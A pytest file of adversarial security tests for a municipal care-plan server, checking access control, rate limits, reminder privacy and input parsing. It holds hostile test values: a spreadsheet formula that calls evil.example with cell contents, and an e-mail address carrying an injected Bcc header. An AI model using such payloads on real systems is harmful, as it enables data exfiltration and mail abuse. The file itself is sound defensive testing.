"""Hostile tests of the worklist, reminders, the unit page and the group (issue 12):
each a way someone could learn of, or change, what they may not."""

from __future__ import annotations

import asyncio
import email
from collections.abc import AsyncIterator
from datetime import timedelta
from email.message import EmailMessage
from email.policy import default
from pathlib import Path

import pytest
from sqlalchemy import select, update

from server.db.models import MeasureRow, ParticipantRow
from server.reminders import Reminders
from tests.conftest import LiveServer, load_demo_into, start_server, test_settings


@pytest.fixture
async def live(db_url: str, tmp_path: Path) -> AsyncIterator[LiveServer]:
    """A server whose outbox is this test's own."""
    server = await start_server(test_settings(db_url, outbox_dir=tmp_path / "outbox"))
    try:
        yield server
    finally:
        await server.stop()


def letters(outbox: Path) -> list[EmailMessage]:
    return [
        email.message_from_bytes(p.read_bytes(), policy=default)  # type: ignore[misc]
        for p in sorted(outbox.glob("paminnelse-*.eml"))
    ]


def body_of(letter: EmailMessage) -> str:
    return str(letter.get_body(preferencelist=("plain",)).get_content())  # type: ignore[union-attr]


async def test_a_coordinator_cannot_redirect_someones_reminders_from_other_plans(
    live: LiveServer,
) -> None:
    """Berit (DPS) takes part in Charlotte's plan and, signed in with the same identity, in
    Per's. Per's coordinator may change the e-mail address on Berit's record in Per's plan;
    the digest must not then carry to that address what waits for Berit in Charlotte's
    plan (that she has a measure overdue, or that there is any other plan at all)."""
    demo = await load_demo_into(live)
    per, charlotte = demo.per, demo.charlotte
    berit = demo.person(charlotte, "berit")["person"]
    therapy = next(m for m in charlotte["measures"] if m["title"] == "Samtaler hos DPS")
    record = "0" * 10 + "hostileberit"  # sorts before any other record of hers
    async with live.services.sessionmaker() as db, db.begin():
        db.add(
            ParticipantRow(
                id=record,
                plan_id=per["id"],
                person_id=berit,
                role="service",
                name="Berit Lund",
                email="berit.lund@example.org",
                active=True,
                updated_at=live.clock(),
                updated_by=berit,
            )
        )
        yesterday = live.clock().date() - timedelta(days=1)
        await db.execute(
            update(MeasureRow).where(MeasureRow.id == therapy["id"]).values(evaluate_by=yesterday)
        )
    async with live.http(demo.token(per, "maria")) as http:
        changed = await http.patch(
            f"/api/plans/{per['id']}/participants/{record}",
            json={"email": "innsyn@example.org"},
        )
        assert changed.status_code == 200, changed.text

    assert (await Reminders(live.services).run_once()).ran
    sent = letters(live.settings.outbox_dir)
    stolen = [body_of(m) for m in sent if str(m["To"]) == "innsyn@example.org"]
    assert stolen == [], stolen
    # Berit's own address (on her record in Charlotte's plan) gets Charlotte's reminders.
    hers = [body_of(m) for m in sent if str(m["To"]) == "berit.lund@example.org"]
    assert any("tiltak som skulle vært evaluert" in b for b in hers), hers


async def test_one_person_cannot_flood_the_municipality_with_plans(live: LiveServer) -> None:
    """Anyone signed in may start a plan, and every plan costs the unit's overview, the
    reminder pass and the starter's worklist time (about 2 s per 300 plans measured).
    Under the ordinary write limit one person could start 240 a minute; starting plans
    has its own, smaller budget."""
    demo = await load_demo_into(live)
    started = 0
    async with live.http(demo.token(demo.per, "maria")) as http:
        for i in range(60):
            answer = await http.post(
                "/api/plans", json={"title": f"Søppel {i}", "as": "coordinator", "owner_name": "X"}
            )
            if answer.status_code == 429:
                assert answer.json()["error"]["code"] == "rate-limited"
                break
            assert answer.status_code == 201, answer.text
            started += 1
    assert 0 < started < 60
    # Someone else is not held back by it.
    async with live.http(demo.token(demo.charlotte, "hilde")) as http:
        answer = await http.post(
            "/api/plans", json={"title": "Ny plan", "as": "coordinator", "owner_name": "Y"}
        )
        assert answer.status_code == 201, answer.text


async def test_a_guardian_whose_access_ended_learns_nothing_of_the_plan(live: LiveServer) -> None:
    """A guardian whose full access has ended, with nothing granted, is like a removed
    participant: the plan list, the worklist, the group and the inbox neither fail nor
    name the plan (nor count it)."""
    from tests.integration.test_guardian_until import add_guardian

    demo = await load_demo_into(live)
    per = demo.per
    pid, token = await add_guardian(live, demo, per)
    async with live.services.sessionmaker() as db, db.begin():
        row = await db.get(ParticipantRow, pid)
        assert row is not None
        row.access_until = live.clock().date() - timedelta(days=1)
    async with live.http(token) as http:
        plans = await http.get("/api/plans")
        assert plans.status_code == 200, plans.text
        assert plans.json()["plans"] == []
        work = await http.get("/api/worklist")
        assert work.status_code == 200, work.text
        assert work.json() == {"rows": [], "plans": 0}
        group = await http.get(f"/api/plans/{per['id']}/group")
        assert group.status_code == 404, group.text
        assert per["title"] not in group.text and "Maria" not in group.text


async def coordinators(live: LiveServer, plan: str) -> list[str]:
    async with live.services.sessionmaker() as db:
        rows = await db.scalars(
            select(ParticipantRow.name).where(
                ParticipantRow.plan_id == plan,
                ParticipantRow.role == "coordinator",
                ParticipantRow.active.is_(True),
            )
        )
        return sorted(rows)


async def test_exactly_one_coordinator_holds_under_concurrent_requests(live: LiveServer) -> None:
    """The one-coordinator rule is checked against the plan as loaded: requests at the
    same moment (a double click, two tabs) must not each add or hand over to one."""
    demo = await load_demo_into(live)
    per = demo.per
    async with live.http(demo.token(per, "per")) as http:
        started = await http.post("/api/plans", json={"title": "Ny plan", "as": "owner"})
        assert started.status_code == 201, started.text
        plan = started.json()["id"]
        assert await coordinators(live, plan) == []
        adds = await asyncio.gather(
            *(
                http.post(
                    f"/api/plans/{plan}/participants",
                    json={"role": "coordinator", "name": f"Koordinator {i}"},
                )
                for i in range(6)
            )
        )
        assert sorted(a.status_code for a in adds) == [201] + [409] * 5, [a.text for a in adds]
        assert len(await coordinators(live, plan)) == 1
        old = next(a.json()["id"] for a in adds if a.status_code == 201)
        handed = await asyncio.gather(
            *(
                http.post(f"/api/plans/{plan}/participants/{old}/replace", json={"name": f"Ny {i}"})
                for i in range(6)
            )
        )
        assert sorted(h.status_code for h in handed)[0] == 201, [h.text for h in handed]
        assert [h.status_code for h in handed].count(201) == 1, [h.text for h in handed]
        assert len(await coordinators(live, plan)) == 1


SECRETS = ("Berit", "Tone", "DPS", "terapi", "Behandling", "Samtaler", "Psykisk", "psykisk")


async def test_the_school_learns_nothing_of_therapy_and_nobody_of_a_hidden_participant(
    live: LiveServer,
) -> None:
    """Everything in Charlotte's plan falls due at once, and Charlotte keeps Berit (DPS)
    from the rest of the group. The school (edit on its own section) reads its worklist,
    inbox, the group and its e-mail digest: none names Berit, Tone, DPS or the therapy
    section. The coordinator (consent to every section) sees the therapy measure, but
    not who is responsible for it."""
    demo = await load_demo_into(live)
    charlotte = demo.charlotte
    berit = demo.person(charlotte, "berit")["id"]
    async with live.http(demo.token(charlotte, "charlotte")) as http:
        hidden = await http.patch(
            f"/api/plans/{charlotte['id']}/participants/{berit}", json={"hidden": True}
        )
        assert hidden.status_code == 200, hidden.text
    async with live.services.sessionmaker() as db, db.begin():
        yesterday = live.clock().date() - timedelta(days=1)
        await db.execute(
            update(MeasureRow)
            .where(MeasureRow.plan_id == charlotte["id"])
            .values(evaluate_by=yesterday, ends=yesterday)
        )
    assert (await Reminders(live.services).run_once()).ran
    for key, secrets in (("skole", SECRETS), ("hilde", ("Berit", "Lund", "berit"))):
        async with live.http(demo.token(charlotte, key)) as http:
            for path in ("/api/worklist", "/api/inbox", f"/api/plans/{charlotte['id']}/group"):
                answer = await http.get(path)
                assert answer.status_code == 200, (key, path, answer.text)
                for secret in secrets:
                    assert secret not in answer.text, (key, path, secret)
    school = [r["kind"] for r in (await _rows(live, demo.token(charlotte, "skole")))]
    assert school == ["measure-overdue"]  # its own measure, nothing else
    therapy = [
        r
        for r in await _rows(live, demo.token(charlotte, "hilde"))
        if r["title"] == "Samtaler hos DPS"
    ]
    assert [r["who"] for r in therapy] == [None]
    for letter in letters(live.settings.outbox_dir):
        if str(letter["To"]) in ("ola.strand@example.org", "hilde.dahl@example.org"):
            for secret in SECRETS:
                assert secret not in body_of(letter)


async def _rows(live: LiveServer, token: str) -> list[dict[str, object]]:
    async with live.http(token) as http:
        return list((await http.get("/api/worklist")).json()["rows"])


async def test_the_unit_csv_runs_no_formula_and_names_only_coordinators(live: LiveServer) -> None:
    """A coordinator's name is typed by people; in the unit's CSV it must never be a
    formula when opened in a spreadsheet, and the page names no one but coordinators."""
    demo = await load_demo_into(live)
    per = demo.per
    maria = demo.person(per, "maria")["id"]
    async with live.http(demo.token(per, "per")) as http:
        renamed = await http.patch(
            f"/api/plans/{per['id']}/participants/{maria}",
            json={"name": '=HYPERLINK("http://evil.example/?"&A1,"Maria")'},
        )
        assert renamed.status_code == 200, renamed.text
    async with live.http(demo.data["unit"]["token"]) as http:
        page = await http.get("/api/unit")
        exported = await http.get("/api/unit/export")
    assert page.status_code == exported.status_code == 200
    for cell in (c for line in exported.text.splitlines()[1:] for c in line.split(";")):
        assert cell.lstrip('"')[:1] not in ("=", "+", "-", "@"), cell
    assert "'=HYPERLINK" in exported.text
    for secret in (per["title"], demo.charlotte["title"], "Per Hansen", "Siw", "Berit", "Ola"):
        assert secret not in page.text and secret not in exported.text, secret
    # Someone in a plan, not in the unit, sees neither.
    async with live.http(demo.token(per, "maria")) as http:
        assert (await http.get("/api/unit")).status_code == 403
        assert (await http.get("/api/unit/export")).status_code == 403


@pytest.mark.parametrize(
    "raw", ["%C2%B2", "%D9%A1%D9%A2", "1" * 19, "-1", "0x1", "%20", "1%00", "9" * 18]
)
async def test_a_malformed_reminder_id_is_not_found(live: LiveServer, raw: str) -> None:
    """Digits Python's isdigit() accepts but int() does not ('²'), or other scripts'
    digits, are not a reminder's id: 404, never 500."""
    demo = await load_demo_into(live)
    async with live.http(demo.token(demo.per, "siw")) as http:
        answer = await http.post(f"/api/inbox/{raw}/read")
        assert answer.status_code == 404, answer.text


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("POST", "/api/plans/{p}/consent/%C2%B2/undo", 404),
        ("GET", "/api/plans/{p}/access-log?limit=%C2%B2", 400),
        ("GET", "/api/plans/{p}/access-log/lines?page=%C2%B2", 400),
        ("GET", "/api/plans/{p}/access-log/lines?size=%C2%B3", 400),
    ],
)
async def test_a_superscript_number_is_refused_not_a_crash(
    live: LiveServer, method: str, path: str, status: int
) -> None:
    """The same '²' in the older number parsers (the owner asks)."""
    demo = await load_demo_into(live)
    async with live.http(demo.token(demo.per, "per")) as http:
        answer = await http.request(method, path.format(p=demo.per["id"]))
        assert answer.status_code == status, answer.text


async def test_bad_rows_in_pending_effects_neither_stop_the_pass_nor_the_good_ones(
    live: LiveServer,
) -> None:
    """Rows no code would write (a damaged table, an older version's kinds): each fails
    and is kept with its error; the good effect behind them is made in the same pass."""
    from server.db import effects as effects_db
    from server.db.models import PendingEffect
    from server.effects import Effects

    demo = await load_demo_into(live)
    measure = demo.per["measures"][0]
    person = demo.person(demo.per, "per")["person"]
    now = live.clock()
    bad: list[tuple[str, object]] = [
        ("drop-table", {}),
        ("measure-fill", None),
        ("measure-fill", ["x"]),
        ("measure-fill", {"progress": "x", "key": "k"}),
        ("section-measure", {"measure": 7}),
        ("measure-fill", {"progress": [["a", "b", "c"]], "key": "k"}),
    ]
    maker = live.services.sessionmaker
    async with maker() as db, db.begin():
        for kind, data in bad:
            db.add(
                PendingEffect(
                    kind=kind,
                    doc=measure["doc"],
                    data=data,
                    person_id=person,
                    created_at=now,
                    not_before=now,
                    attempts=0,
                    error="",
                )
            )
        effects_db.add(
            db,
            kind="measure-fill",
            doc=measure["doc"],
            data={"progress": [["2026-12-01", "Etter de dårlige."]], "key": "good:1"},
            person=person,
            now=now,
        )
    effects = Effects(clock=live.clock)
    assert await effects.run_due(maker, live.app.state.hub.edit_as) == 1
    async with maker() as db:
        left = await effects_db.pending(db)
    assert len(left) == len(bad) and all(row.error and row.attempts == 1 for row in left)


async def test_the_worklist_queries_take_any_number_of_plans(live: LiveServer) -> None:
    """The reminder pass and the unit's page ask these for every active plan of the
    municipality at once; PostgreSQL's driver takes at most 32767 parameters a query."""
    from server.db import worklist as worklist_db

    demo = await load_demo_into(live)
    plans = [f"p{n:011d}" for n in range(40_000)] + [demo.per["id"]]
    async with live.services.sessionmaker() as db:
        measures = await worklist_db.measures(db, plans)
        meetings = await worklist_db.meetings(db, plans)
        invitations = await worklist_db.open_invitations(db, plans, live.clock())
    assert {m.plan_id for m in measures} == {demo.per["id"]}
    assert {m.plan_id for m in meetings} == {demo.per["id"]}
    assert invitations == []


async def test_an_address_with_a_line_break_neither_injects_headers_nor_stops_the_digests(
    live: LiveServer,
) -> None:
    """A participant's e-mail address is typed by the coordinator. One with a line break
    (an extra Bcc header) is refused; and one already stored (older data) must not stop
    everyone else's digest in the pass."""
    demo = await load_demo_into(live)
    per = demo.per
    maria = demo.person(per, "maria")["id"]
    bad = "maria.olsen@example.org\r\nBcc: spion@example.org"
    async with live.http(demo.token(per, "maria")) as http:
        for method, path, body in (
            ("PATCH", f"/api/plans/{per['id']}/participants/{maria}", {"email": bad}),
            (
                "POST",
                f"/api/plans/{per['id']}/participants",
                {"role": "service", "name": "Ny", "email": bad},
            ),
        ):
            answer = await http.request(method, path, json=body)
            assert answer.status_code == 400, answer.text
    async with live.services.sessionmaker() as db, db.begin():
        await db.execute(update(ParticipantRow).where(ParticipantRow.id == maria).values(email=bad))
    report = await Reminders(live.services).run_once()
    assert report.ran
    sent = letters(live.settings.outbox_dir)
    assert "siw.nilsen@example.org" in [str(m["To"]) for m in sent]
    assert not any("spion" in str(m["To"]) + str(m.get("Bcc", "")) for m in sent)


async def test_an_outsider_and_a_service_reach_nothing_of_the_group(live: LiveServer) -> None:
    """The unit's member (in no plan) and a service: the group screen, the hand-over and
    a link invitation are 'not found' to the one, refused to the other, naming no one."""
    demo = await load_demo_into(live)
    per = demo.per
    maria = demo.person(per, "maria")["id"]
    owner = demo.person(per, "per")["id"]
    base = f"/api/plans/{per['id']}"
    async with live.http(demo.data["unit"]["token"]) as http:
        for method, path, body in (
            ("GET", f"{base}/group", None),
            ("POST", f"{base}/participants/{maria}/replace", {"name": "Ny"}),
            ("POST", f"{base}/participants/{owner}/invite", {"by": "link"}),
        ):
            answer = await http.request(method, path, json=body)
            assert answer.status_code == 404, (path, answer.text)
            assert "Maria" not in answer.text and per["title"] not in answer.text
    async with live.http(demo.token(per, "ali")) as http:
        handed = await http.post(f"{base}/participants/{maria}/replace", json={"name": "Ny"})
        assert handed.status_code in (403, 404), handed.text
        invited = await http.post(f"{base}/participants/{owner}/invite", json={"by": "link"})
        assert invited.status_code in (403, 404), invited.text
        removed = await http.patch(f"{base}/participants/{maria}", json={"active": False})
        assert removed.status_code in (403, 404), removed.text
